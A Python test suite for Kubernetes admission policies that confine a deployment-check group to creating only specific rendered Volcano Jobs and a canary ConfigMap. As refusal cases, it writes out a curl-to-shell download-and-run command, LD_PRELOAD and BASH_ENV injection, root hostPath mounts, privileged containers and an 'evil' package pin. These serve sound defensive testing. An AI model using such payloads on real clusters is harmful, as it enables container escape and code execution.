"""The deployment check's fence: its group may create only the rendered fabric-check Jobs and, with
the pipeline's canary, the canary's rendered Job and ConfigMap.

RBAC gives the check ``create`` on every Volcano Job in the platform namespace (and, for the canary,
on every Volcano Job and ConfigMap of its team's namespace); the admission policies of
k8s_charts/checks/deployment_check_rbac.py are what narrow it. Their CEL runs here (tests/admission.py) on
the objects the synth renders, as Volcano's webhook writes them back, and on them changed one field
at a time.
"""

from __future__ import annotations

import copy
import functools
import json
from collections.abc import Callable
from typing import Any

import pytest
import yaml

from cluster_facts.kubernetes_names import DEPLOYMENT_CHECK_GROUP, PLATFORM_NAMESPACE
from cluster_plan.canary_run import canary_manifests, canary_run
from cluster_plan.fabric_check_commands import pipeline_fabric_check_manifests
from config import StackConfig, parse_config
from k8s_charts.checks.deployment_check_rbac import (
    DeploymentCheckRbacChart,
    canary_access,
    cel_literal,
    config_map_fence_name,
    fabric_check_job,
    job_fence_name,
)
from k8s_charts.checks.fabric_check import SSHD_CAPABILITIES
from k8s_charts.runs.tensorboard import SERVICE_PROXY_NAME
from tests.admission import Decision, admission_request, admit, evaluate
from tests.conftest import REPO_ROOT
from tests.k8s_charts.manifests import synth
from tests.k8s_validation import assert_valid
from tests.plans import shared_review_plan

Manifest = dict[str, Any]
CHECK_USER = "arn:aws:sts::111111111111:assumed-role/trainium-dev-us-west-2-deploy-check/check"
OTHER_IMAGE = "docker.io/library/busybox@sha256:" + "a" * 64


def fabric_config(*, taint: bool) -> StackConfig:
    data = yaml.safe_load((REPO_ROOT / "config" / "environments" / "dev.yaml").read_text())
    data["fabric_check"] = {"pipeline": True, "taint_failed_nodes": taint}
    return parse_config(data)


def rendered(taint: bool) -> tuple[list[Manifest], Manifest]:
    """The chart as the stack builds it from the plan, and the one Job the pipeline creates."""
    config = fabric_config(taint=taint)
    [job] = pipeline_fabric_check_manifests(config, shared_review_plan(config))
    manifests = synth(
        lambda app: DeploymentCheckRbacChart(
            app,
            "rbac",
            group=DEPLOYMENT_CHECK_GROUP,
            fabric_check_jobs=[fabric_check_job(job)],
            fabric_check_namespace=PLATFORM_NAMESPACE,
        )
    )
    return manifests, copy.deepcopy(dict(job))


@pytest.fixture(scope="module")
def tainting() -> tuple[list[Manifest], Manifest]:
    return rendered(taint=True)


def fence(manifests: list[Manifest]) -> list[Manifest]:
    return [m for m in manifests if m["kind"].startswith("ValidatingAdmissionPolicy")]


def decide(
    manifests: list[Manifest],
    job: Manifest,
    *,
    groups: tuple[str, ...] = (DEPLOYMENT_CHECK_GROUP,),
    operation: str = "CREATE",
    namespace: str = PLATFORM_NAMESPACE,
) -> Decision:
    request = admission_request(
        user=CHECK_USER,
        operation=operation,
        resource="jobs",
        name=job["metadata"]["name"],
        namespace=namespace,
        kind="Job",
        group="batch.volcano.sh",
        version="v1alpha1",
        groups=groups,
    )
    return admit(fence(manifests), request, obj=job, old=job if operation == "UPDATE" else None)


def as_volcano_defaults_it(job: Manifest) -> Manifest:
    """What Volcano's mutating webhook (v1.15.1 mutate_job.go) writes before validation runs: the
    tasks re-marshalled with minAvailable and maxRetry, and the job's maxRetry. The write-back goes
    through Go's types, whose ``omitempty`` drops an environment variable's empty value."""
    job = copy.deepcopy(job)
    job["spec"].setdefault("maxRetry", 3)
    for task in job["spec"]["tasks"]:
        task.setdefault("minAvailable", task["replicas"])
        task.setdefault("maxRetry", 3)
        spec = task["template"]["spec"]
        for container in [*spec.get("initContainers", []), *spec.get("containers", [])]:
            for variable in container.get("env", []):
                if variable.get("value") == "":
                    del variable["value"]
    return job


@pytest.mark.parametrize("taint", [True, False], ids=["tainting", "not-tainting"])
def test_the_fence_admits_the_rendered_fabric_check_job(taint: bool) -> None:
    manifests, job = rendered(taint)
    assert_valid(manifests)
    assert_valid([job])
    for candidate, operation in [
        (job, "CREATE"),
        (as_volcano_defaults_it(job), "CREATE"),
        (as_volcano_defaults_it(job), "UPDATE"),
    ]:
        decision = decide(manifests, candidate, operation=operation)
        assert decision == Decision(matched=True, allowed=True), decision.messages
    # What it was read from: one name, the training image, the launcher's service account when it taints.
    [policy] = [m for m in manifests if m["kind"] == "ValidatingAdmissionPolicy"]
    assert (
        policy["metadata"]["name"]
        == job_fence_name(DEPLOYMENT_CHECK_GROUP)
        == "trainium-deployment-check-volcano-jobs"
    )
    facts = fabric_check_job(job)
    assert facts.name == "fabric-check-trn1-32xl"
    assert facts.images == (job["spec"]["tasks"][0]["template"]["spec"]["containers"][0]["image"],)
    assert facts.service_accounts == (("fabric-check-trn1-32xl",) if taint else ())
    # What the worker's sshd needs (k8s_charts/checks/fabric_check.py), the fence's whole allowance.
    assert facts.capabilities == tuple(sorted(SSHD_CAPABILITIES["add"]))


def test_a_rendered_job_with_empty_environment_values_is_admitted_as_volcano_writes_it_back() -> None:
    """The canary's run has empty values (REQUIRED_MARKERS, PYTHON_REQUIREMENTS, ...): the fence
    compares them as absent, so the Job admitted is the one Volcano's write-back leaves."""
    manifests, _, job = canary_rendered()
    written_back = as_volcano_defaults_it(job)
    [container] = written_back["spec"]["tasks"][0]["template"]["spec"]["containers"]
    assert {"name": "PYTHON_REQUIREMENTS"} in container["env"]
    assert decide_job(manifests, written_back, namespace=CANARY_NAMESPACE) == Decision(
        matched=True, allowed=True
    )


def test_the_fence_is_in_place_before_the_role_that_grants_create(
    tainting: tuple[list[Manifest], Manifest],
) -> None:
    manifests, _ = tainting
    kinds = [m["kind"] for m in manifests]
    runner = next(
        i
        for i, m in enumerate(manifests)
        if m["kind"] == "Role" and m["metadata"]["namespace"] == PLATFORM_NAMESPACE
    )
    assert kinds.index("ValidatingAdmissionPolicy") < runner
    assert kinds.index("ValidatingAdmissionPolicyBinding") < runner
    [binding] = [m for m in manifests if m["kind"] == "ValidatingAdmissionPolicyBinding"]
    # Every namespace: the policy itself refuses any but the checks'.
    assert binding["spec"] == {
        "policyName": "trainium-deployment-check-volcano-jobs",
        "validationActions": ["Deny"],
    }


def _pods(job: Manifest) -> list[Manifest]:
    return [task["template"]["spec"] for task in job["spec"]["tasks"]]


def _worker(job: Manifest) -> Manifest:
    [worker] = _pods(job)[0]["containers"]
    return worker


def renamed(job: Manifest) -> None:
    job["metadata"]["name"] = "fabric-check-mine"


def other_image(job: Manifest) -> None:
    _worker(job)["image"] = OTHER_IMAGE


def init_container(job: Manifest) -> None:
    _pods(job)[1]["initContainers"] = [{"name": "setup", "image": OTHER_IMAGE, "command": ["sh"]}]


def host_path(job: Manifest) -> None:
    _pods(job)[0]["volumes"] = [{"name": "root", "hostPath": {"path": "/"}}]
    _worker(job)["volumeMounts"] = [{"name": "root", "mountPath": "/host"}]


def secret_volume(job: Manifest) -> None:
    _pods(job)[1]["volumes"] = [{"name": "s", "secret": {"secretName": "any"}}]


def job_volume(job: Manifest) -> None:
    job["spec"]["volumes"] = [{"mountPath": "/data", "volumeClaimName": "someone-elses"}]


def privileged(job: Manifest) -> None:
    _worker(job)["securityContext"]["privileged"] = True


def capability(job: Manifest) -> None:
    _worker(job)["securityContext"]["capabilities"] = {"add": ["SYS_ADMIN"]}


def host_network(job: Manifest) -> None:
    _pods(job)[0]["hostNetwork"] = True


def host_pid(job: Manifest) -> None:
    _pods(job)[1]["hostPID"] = True


def secret_env(job: Manifest) -> None:
    _worker(job)["env"].append(
        {"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "any", "key": "token"}}}
    )


def other_service_account(job: Manifest) -> None:
    _pods(job)[0].update(serviceAccountName="volcano-controllers", automountServiceAccountToken=True)


def deprecated_service_account(job: Manifest) -> None:
    _pods(job)[0].update(serviceAccount="volcano-controllers", automountServiceAccountToken=True)


def default_token(job: Manifest) -> None:
    _pods(job)[0]["automountServiceAccountToken"] = True


def other_command(job: Manifest) -> None:
    _worker(job)["command"] = ["/bin/sh", "-c", "curl -s https://example.com/x | sh"]


def other_environment(job: Manifest) -> None:
    _worker(job)["env"].append({"name": "LD_PRELOAD", "value": "/data/x.so"})


NAME = "a Volcano Job named"
IMAGE_ONLY = "every container's image one of the check's"
VOLUME = "no volume but the rendered Job's own"
AS_RENDERED = "each task's pod and containers as rendered"
PRIVILEGE = "no privileged container"
HOST = "no host network"
SECRET = "no Secret in a container's environment"
IDENTITY = "no service account but the check's own"
QUEUE = "its own queue"
PRIORITY = "the rendered priority class"
NODES = "the rendered node group"
RUNTIME = "no runtime class or host aliases"
LABELS = "the rendered labels"
TASKS = "the rendered tasks and replicas"
# Each change and every reason the fence gives for refusing it: the rule it breaks first, and the
# pins that hold every field of the rendered Job besides.
FORBIDDEN: dict[str, tuple[Callable[[Manifest], None], tuple[str, ...]]] = {
    "another name": (
        renamed,
        # Every value is looked up by the Job's name: another name has none of them.
        (
            *(NAME, "in the named Job's namespace", IMAGE_ONLY, VOLUME, AS_RENDERED, IDENTITY),
            *(QUEUE, NODES, LABELS, TASKS),
        ),
    ),
    "another image": (other_image, (IMAGE_ONLY,)),
    "an init container of another image": (init_container, (IMAGE_ONLY, AS_RENDERED)),
    "a hostPath volume": (host_path, (VOLUME, AS_RENDERED)),
    "a Secret volume": (secret_volume, (VOLUME,)),
    "a Job volume": (job_volume, (VOLUME,)),
    "privileged": (privileged, (AS_RENDERED, PRIVILEGE)),
    "an added capability": (capability, (AS_RENDERED, PRIVILEGE)),
    "hostNetwork": (host_network, (HOST,)),
    "hostPID": (host_pid, (HOST,)),
    "a Secret in the environment": (secret_env, (AS_RENDERED, SECRET)),
    "another command": (other_command, (AS_RENDERED,)),
    "another environment variable": (other_environment, (AS_RENDERED,)),
    "another service account": (other_service_account, (IDENTITY,)),
    "the deprecated serviceAccount field": (deprecated_service_account, (IDENTITY,)),
    "the default service account's token": (default_token, (IDENTITY,)),
    "another queue": (lambda j: j["spec"].__setitem__("queue", "research"), (QUEUE,)),
    "Volcano's default queue": (lambda j: j["spec"].__setitem__("queue", "default"), (QUEUE,)),
    "a priority class": (
        lambda j: j["spec"].__setitem__("priorityClassName", "system-node-critical"),
        (PRIORITY,),
    ),
    "a task's priority class": (
        lambda j: _pods(j)[0].__setitem__("priorityClassName", "system-cluster-critical"),
        (PRIORITY,),
    ),
    "nodeName": (
        lambda j: _pods(j)[0].__setitem__("nodeName", "ip-10-0-0-1.ec2.internal"),
        (NODES,),
    ),
    "another node selector": (
        lambda j: _pods(j)[1].__setitem__("nodeSelector", {"topology.kubernetes.io/zone": "us-west-2a"}),
        (NODES,),
    ),
    "another toleration": (
        lambda j: _pods(j)[0]["tolerations"].append({"operator": "Exists"}),
        (NODES,),
    ),
    "node affinity": (
        lambda j: _pods(j)[0].__setitem__("affinity", {"nodeAffinity": {}}),
        (NODES,),
    ),
    "a runtime class": (
        lambda j: _pods(j)[0].__setitem__("runtimeClassName", "runc-host"),
        (RUNTIME,),
    ),
    "host aliases": (
        lambda j: _pods(j)[1].__setitem__("hostAliases", [{"ip": "10.0.0.1", "hostnames": ["pypi.org"]}]),
        (RUNTIME,),
    ),
    "an extra Job label": (
        lambda j: j["metadata"]["labels"].__setitem__("volcano.sh/job-name", "x"),
        (LABELS,),
    ),
    "an extra pod label": (
        lambda j: j["spec"]["tasks"][0]["template"]["metadata"]["labels"].__setitem__("k8s-app", "kube-dns"),
        (LABELS,),
    ),
    "more replicas": (
        lambda j: j["spec"]["tasks"][0].__setitem__("replicas", 64),
        (TASKS,),
    ),
    "another minAvailable": (
        lambda j: j["spec"].__setitem__("minAvailable", 1),
        (TASKS,),
    ),
    "a task fewer": (lambda j: j["spec"]["tasks"].pop(), (TASKS,)),
}
PREFIX = f"{DEPLOYMENT_CHECK_GROUP} may only create the rendered fabric checks and canary: "


@pytest.mark.parametrize("operation", ["CREATE", "UPDATE"])
@pytest.mark.parametrize("case", list(FORBIDDEN))
def test_the_fence_refuses_anything_but_the_rendered_job(
    tainting: tuple[list[Manifest], Manifest], case: str, operation: str
) -> None:
    manifests, job = tainting
    change, messages = FORBIDDEN[case]
    changed = as_volcano_defaults_it(job)
    change(changed)
    assert_valid([changed])
    decision = decide(manifests, changed, operation=operation)
    assert decision.matched and not decision.allowed
    assert len(decision.messages) == len(messages), decision.messages
    for given, expected in zip(decision.messages, messages, strict=True):
        assert given.startswith(PREFIX + expected), (given, expected)


def test_the_fence_refuses_another_namespace(tainting: tuple[list[Manifest], Manifest]) -> None:
    manifests, job = tainting
    elsewhere = copy.deepcopy(job)
    elsewhere["metadata"]["namespace"] = "team-a"
    decision = decide(manifests, elsewhere, namespace="team-a")
    assert decision.messages == (
        PREFIX + f"in the named Job's namespace (fabric-check-trn1-32xl in {PLATFORM_NAMESPACE})",
    )


def test_the_fence_applies_only_to_the_deployment_checks_group(
    tainting: tuple[list[Manifest], Manifest],
) -> None:
    manifests, job = tainting
    changed = copy.deepcopy(job)
    privileged(changed)
    # Anyone else's Volcano Jobs are not the fence's business (team RBAC and Pod Security judge them).
    assert decide(manifests, changed, groups=("team-a-members",)) == Decision(matched=False, allowed=True)
    assert decide(manifests, job, groups=()) == Decision(matched=False, allowed=True)


def test_the_fence_refuses_a_job_that_is_not_a_volcano_job() -> None:
    with pytest.raises(ValueError, match="is not a Volcano Job"):
        fabric_check_job({"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "x"}, "spec": {}})


# --- The pipeline's canary: its rendered Job and ConfigMap, in its team's namespace ---------------------------

CANARY_CONFIG = fabric_config(taint=True)
CANARY_RUN = canary_run(CANARY_CONFIG)
CANARY_NAMESPACE = CANARY_RUN.namespace


@functools.cache
def _canary_rendered() -> tuple[tuple[Manifest, ...], str, str]:
    """The chart as the stack builds it with both the fabric check and the canary, and the canary's
    ConfigMap and Job (JSON, so each test gets its own copy)."""
    _, objects = canary_manifests(CANARY_RUN)
    [job] = pipeline_fabric_check_manifests(CANARY_CONFIG, shared_review_plan(CANARY_CONFIG))
    manifests = synth(
        lambda app: DeploymentCheckRbacChart(
            app,
            "rbac",
            group=DEPLOYMENT_CHECK_GROUP,
            fabric_check_jobs=[fabric_check_job(job)],
            fabric_check_namespace=PLATFORM_NAMESPACE,
            canary=canary_access(
                objects, tensorboard_namespace=PLATFORM_NAMESPACE, tensorboard_proxy=SERVICE_PROXY_NAME
            ),
        )
    )
    config_map, canary_job = objects
    return tuple(manifests), json.dumps(config_map), json.dumps(canary_job)


def canary_rendered() -> tuple[list[Manifest], Manifest, Manifest]:
    manifests, config_map, job = _canary_rendered()
    return copy.deepcopy(list(manifests)), json.loads(config_map), json.loads(job)


def decide_config_map(
    manifests: list[Manifest],
    config_map: Manifest,
    *,
    namespace: str = CANARY_NAMESPACE,
    groups: tuple[str, ...] = (DEPLOYMENT_CHECK_GROUP,),
    operation: str = "CREATE",
) -> Decision:
    request = admission_request(
        user=CHECK_USER,
        operation=operation,
        resource="configmaps",
        name=config_map["metadata"]["name"],
        namespace=namespace,
        kind="ConfigMap",
        group="",
        version="v1",
        groups=groups,
    )
    policies = [
        m
        for m in manifests
        if m["kind"].startswith("ValidatingAdmissionPolicy")
        and m["metadata"]["name"] == config_map_fence_name(DEPLOYMENT_CHECK_GROUP)
    ]
    return admit(policies, request, obj=config_map, old=config_map if operation == "UPDATE" else None)


def decide_job(
    manifests: list[Manifest], job: Manifest, *, namespace: str, operation: str = "CREATE"
) -> Decision:
    policies = [
        m for m in fence(manifests) if m["metadata"]["name"] == job_fence_name(DEPLOYMENT_CHECK_GROUP)
    ]
    return decide(policies, job, namespace=namespace, operation=operation)


def test_the_fences_admit_the_canarys_rendered_job_and_config_map_beside_the_fabric_check() -> None:
    manifests, config_map, job = canary_rendered()
    assert_valid(manifests)
    for operation in ("CREATE", "UPDATE"):
        for candidate in (job, as_volcano_defaults_it(job)):
            decision = decide_job(manifests, candidate, namespace=CANARY_NAMESPACE, operation=operation)
            assert decision == Decision(matched=True, allowed=True), decision.messages
        decision = decide_config_map(manifests, config_map, operation=operation)
        assert decision == Decision(matched=True, allowed=True), decision.messages
    # The fabric check is still admitted, in its own namespace only; the canary in its own only.
    [fabric] = pipeline_fabric_check_manifests(CANARY_CONFIG, shared_review_plan(CANARY_CONFIG))
    assert decide_job(manifests, as_volcano_defaults_it(dict(fabric)), namespace=PLATFORM_NAMESPACE).allowed
    moved = copy.deepcopy(dict(fabric))
    moved["metadata"]["namespace"] = CANARY_NAMESPACE
    assert not decide_job(manifests, moved, namespace=CANARY_NAMESPACE).allowed
    moved = copy.deepcopy(job)
    moved["metadata"]["namespace"] = PLATFORM_NAMESPACE
    assert not decide_job(manifests, moved, namespace=PLATFORM_NAMESPACE).allowed


def _canary_container(job: Manifest) -> Manifest:
    [container] = job["spec"]["tasks"][0]["template"]["spec"]["containers"]
    return container


def _set_env(job: Manifest, name: str, value: str) -> None:
    for variable in _canary_container(job)["env"]:
        if variable["name"] == name:
            variable["value"] = value


def _canary_pod(job: Manifest) -> Manifest:
    return job["spec"]["tasks"][0]["template"]["spec"]


CANARY_FORBIDDEN: dict[str, Callable[[Manifest], None]] = {
    # Code: the pod script, the program's hash, packages from PyPI, what bash or Python load first.
    "another command": lambda job: _canary_container(job).update(command=["/bin/bash", "-c", "id"]),
    "other arguments": lambda job: _canary_container(job)["args"].__setitem__(-1, "/data/mine.py"),
    "another program hash": lambda job: _set_env(
        job, "VERIFY_FILES", "0" * 64 + "  /opt/run/program/canary_worker.py"
    ),
    "packages to install": lambda job: _set_env(
        job, "PYTHON_REQUIREMENTS", "evil==1.0 --hash=sha256:" + "0" * 64
    ),
    "an added environment variable": lambda job: _canary_container(job)["env"].append(
        {"name": "BASH_ENV", "value": "/data/x.sh"}
    ),
    # Data and identity: another claim, root, the node's files.
    "another team's claim": lambda job: _canary_pod(job)["volumes"][0]["persistentVolumeClaim"].update(
        claimName="fsx-other"
    ),
    "the data sets writable": lambda job: _canary_pod(job)["volumes"][1]["persistentVolumeClaim"].pop(
        "readOnly"
    ),
    "root": lambda job: _canary_pod(job)["securityContext"].update(runAsUser=0, runAsNonRoot=False),
    "a hostPath volume": lambda job: _canary_pod(job)["volumes"].append(
        {"name": "root", "hostPath": {"path": "/"}}
    ),
    "another mount": lambda job: _canary_container(job)["volumeMounts"].append(
        {"name": "data", "mountPath": "/opt/run/program/x"}
    ),
    "privilege escalation": lambda job: _canary_container(job)["securityContext"].update(
        allowPrivilegeEscalation=True
    ),
}


@pytest.mark.parametrize("case", list(CANARY_FORBIDDEN))
def test_the_fence_refuses_every_variant_of_the_canarys_job(case: str) -> None:
    manifests, _, job = canary_rendered()
    changed = as_volcano_defaults_it(job)
    CANARY_FORBIDDEN[case](changed)
    assert_valid([changed])
    decision = decide_job(manifests, changed, namespace=CANARY_NAMESPACE)
    assert decision.matched and not decision.allowed
    assert any(message.startswith(PREFIX) for message in decision.messages), decision.messages


def _canary_tolerations(job: Manifest) -> list[Manifest]:
    tolerations: list[Manifest] = _canary_pod(job)["tolerations"]
    return tolerations


# The fabric check's pins hold the canary's Job too: its queue, priority class, node group (its
# tolerations exactly, tolerationSeconds included), labels and size, each refused with its one reason.
CANARY_PLACEMENT: dict[str, tuple[Callable[[Manifest], None], str]] = {
    "another queue": (lambda job: job["spec"].update(queue="default"), QUEUE),
    "another priority class": (
        lambda job: job["spec"].update(priorityClassName="system-node-critical"),
        PRIORITY,
    ),
    "another node group": (
        lambda job: _canary_pod(job)["nodeSelector"].update({"trainium/node-group": "other"}),
        NODES,
    ),
    "not-ready nodes tolerated for ever": (
        lambda job: [t.pop("tolerationSeconds", None) for t in _canary_tolerations(job)],
        NODES,
    ),
    "not-ready nodes tolerated longer": (
        lambda job: [
            t.update(tolerationSeconds=86400) for t in _canary_tolerations(job) if "tolerationSeconds" in t
        ],
        NODES,
    ),
    "an extra pod label": (
        lambda job: job["spec"]["tasks"][0]["template"]["metadata"]["labels"].update({"k8s-app": "kube-dns"}),
        LABELS,
    ),
    "more replicas": (lambda job: job["spec"]["tasks"][0].update(replicas=8), TASKS),
}


@pytest.mark.parametrize("case", list(CANARY_PLACEMENT))
def test_the_fence_holds_the_canarys_queue_priority_node_group_labels_and_size(case: str) -> None:
    manifests, _, job = canary_rendered()
    change, message = CANARY_PLACEMENT[case]
    changed = as_volcano_defaults_it(job)
    change(changed)
    assert_valid([changed])
    decision = decide_job(manifests, changed, namespace=CANARY_NAMESPACE)
    assert decision.matched and not decision.allowed
    assert len(decision.messages) == 1 and decision.messages[0].startswith(PREFIX + message), (
        decision.messages
    )


@pytest.mark.parametrize(
    ("case", "change", "namespace", "message"),
    [
        pytest.param(
            "another program",
            lambda cm: cm["data"].update({"canary_worker.py": "import os; os.system('id')\n"}),
            CANARY_NAMESPACE,
            "exactly its rendered data",
            id="another-program",
        ),
        pytest.param(
            "another file",
            lambda cm: cm["data"].update({"sitecustomize.py": "import os\n"}),
            CANARY_NAMESPACE,
            "exactly its rendered data",
            id="another-file",
        ),
        pytest.param(
            "binary data",
            lambda cm: cm.update(binaryData={"x": "AA=="}),
            CANARY_NAMESPACE,
            "exactly",
            id="binary",
        ),
        pytest.param(
            "another name",
            lambda cm: cm["metadata"].update(name="other-program"),
            CANARY_NAMESPACE,
            "the ConfigMap",
            id="another-name",
        ),
        pytest.param(
            "another namespace",
            lambda cm: cm["metadata"].update(namespace=PLATFORM_NAMESPACE),
            PLATFORM_NAMESPACE,
            "the ConfigMap",
            id="another-namespace",
        ),
    ],
)
def test_the_config_map_fence_admits_only_the_canarys_program(
    case: str, change: Callable[[Manifest], None], namespace: str, message: str
) -> None:
    manifests, config_map, _ = canary_rendered()
    change(config_map)
    decision = decide_config_map(manifests, config_map, namespace=namespace)
    assert decision.matched and not decision.allowed, case
    assert decision.messages[0].startswith(
        f"{DEPLOYMENT_CHECK_GROUP} may only create the canary's rendered ConfigMap: {message}"
    ), decision.messages
    # Nobody else's ConfigMaps are the fence's business.
    assert decide_config_map(
        manifests, config_map, namespace=namespace, groups=("team-a-members",)
    ) == Decision(matched=False, allowed=True)


def test_the_canarys_roles_grant_what_the_canary_calls_and_follow_the_fences() -> None:
    manifests, config_map, job = canary_rendered()
    kinds = [m["kind"] for m in manifests]
    roles = {
        (m["metadata"]["namespace"], m["metadata"]["name"]): m["rules"]
        for m in manifests
        if m["kind"] == "Role" and m["metadata"]["name"].endswith("-canary")
    }
    name = f"{DEPLOYMENT_CHECK_GROUP}-canary"
    run_id = job["metadata"]["name"]
    assert roles == {
        (CANARY_NAMESPACE, name): [
            {"apiGroups": ["batch.volcano.sh"], "resources": ["jobs"], "verbs": ["create"]},
            {
                "apiGroups": ["batch.volcano.sh"],
                "resources": ["jobs"],
                "resourceNames": [run_id],
                "verbs": ["get", "delete"],
            },
            {"apiGroups": [""], "resources": ["configmaps"], "verbs": ["create"]},
            {
                "apiGroups": [""],
                "resources": ["configmaps"],
                "resourceNames": [config_map["metadata"]["name"]],
                "verbs": ["delete"],
            },
            {"apiGroups": [""], "resources": ["pods", "events"], "verbs": ["list"]},
            {
                "apiGroups": [""],
                "resources": ["pods/log"],
                "resourceNames": [f"{run_id}-worker-0", f"{run_id}-worker-1"],
                "verbs": ["get"],
            },
        ],
        (PLATFORM_NAMESPACE, name): [
            {
                "apiGroups": [""],
                "resources": ["services/proxy"],
                "resourceNames": ["tensorboard:6006"],
                "verbs": ["get"],
            }
        ],
    }
    # Both fences come before any Role that grants create.
    first_role = min(i for i, m in enumerate(manifests) if m["kind"] == "Role" and "create" in json.dumps(m))
    policies = [i for i, m in enumerate(manifests) if m["kind"].startswith("ValidatingAdmissionPolicy")]
    assert len(policies) == 4 and max(policies) < first_role, kinds
    bindings = [m for m in manifests if m["kind"] == "RoleBinding" and m["metadata"]["name"] == name]
    assert {b["metadata"]["namespace"] for b in bindings} == {CANARY_NAMESPACE, PLATFORM_NAMESPACE}
    assert all(
        b["subjects"]
        == [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": DEPLOYMENT_CHECK_GROUP}]
        for b in bindings
    )


def test_cel_literals_hold_any_text_and_mixed_types() -> None:
    """The pinned pod script and the program are long texts with quotes, backslashes and newlines;
    the pins mix lists, maps, strings and numbers (each element dyn, as cel-go's checker needs)."""
    text = "a \"quoted\" \\ back\nslash\t'single' \x01 ü"
    value = {"text": text, "list": [1, "x", {"k": True}], "none": None}
    assert evaluate(f"{cel_literal(value)} == object", {"object": value}) is True
    assert evaluate(f"{cel_literal(text)} == object", {"object": text + "!"}) is False
